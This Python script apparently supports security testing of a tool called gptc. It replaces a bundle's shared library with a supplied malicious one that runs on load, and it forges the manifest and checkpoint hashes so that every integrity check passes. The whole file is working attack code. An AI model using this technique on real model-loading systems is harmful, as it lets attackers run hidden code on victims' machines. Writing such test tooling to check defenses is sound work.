"""Makes a hostile gift for gptc sample, as an attacker who writes both a
checkpoint and the bundle it names would:
  gift-bundle.py BUNDLE EVIL_SO CHECKPOINT
replaces BUNDLE's step.so by EVIL_SO (whose constructor runs on dlopen),
records its SHA-256 in BUNDLE's manifest.json, and points CHECKPOINT's
checkpoint.json at BUNDLE with that digest, its own hash recomputed: every
hash agrees, so only the rule that a checkpoint names no code stops it.
"""
import hashlib
import json
import re
import shutil
import sys

bundle, evil, ckpt = sys.argv[1:4]
shutil.copyfile(evil, bundle + "/step.so")
digest = hashlib.sha256(open(evil, "rb").read()).hexdigest()
with open(bundle + "/manifest.json") as f:
    m = json.load(f)
m["step_library"]["sha256"] = digest
m["step_library"]["bytes"] = len(open(evil, "rb").read())
with open(bundle + "/manifest.json", "w") as f:
    json.dump(m, f, indent=2)

path = ckpt + "/checkpoint.json"
text = open(path).read()
text = re.sub(r'"bundle": "[^"]*"', '"bundle": "%s"' % bundle, text)
text = re.sub(r'"step_library_sha256": "[0-9a-f]{64}"',
              '"step_library_sha256": "%s"' % digest, text)
zeros = '"checkpoint_sha256": "%s"' % ("0" * 64)
text = re.sub(r'"checkpoint_sha256": "[0-9a-f]{64}"', zeros, text)
seal = hashlib.sha256(text.encode()).hexdigest()
text = text.replace(zeros, '"checkpoint_sha256": "%s"' % seal)
open(path, "w").write(text)
